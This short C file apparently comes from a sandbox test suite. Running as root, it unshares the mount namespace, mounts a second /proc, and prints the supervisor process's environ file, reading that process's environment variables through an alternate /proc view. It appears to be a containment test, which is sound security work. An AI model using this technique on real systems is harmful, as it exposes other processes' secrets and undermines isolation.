/* Needs: root. The same in a second /proc. */
#include "../attack.h"
int main(void)
{
	mkdir("p", 0700);
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 || mount("proc", "p", "proc", 0, NULL) < 0)
		return 1;
	return show_file(text("p/%s", proc(supervisor(), "environ") + 6, NULL));
}
